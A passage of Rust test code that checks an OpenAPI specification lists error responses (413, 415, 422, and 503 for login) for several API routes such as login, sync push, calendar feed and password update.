        ("/api/auth/login", "post"),
        ("/api/sync/push", "post"),
        ("/api/calendar/feed", "post"),
        ("/api/people/{id}/password", "put"),
    ] {
        let responses = &document["paths"][path][method]["responses"];
        for code in ["413", "415", "422"] {
            assert!(
                responses.get(code).is_some(),
                "{method} {path} lacks {code}"
            );
        }
    }
    assert!(document["paths"]["/api/auth/login"]["post"]["responses"]
        .get("503")
        .is_some());
    assert!(
        document["paths"]["/api/calendar/feed"]["delete"]["responses"]
            .get("415")
            .is_some()
    );
}
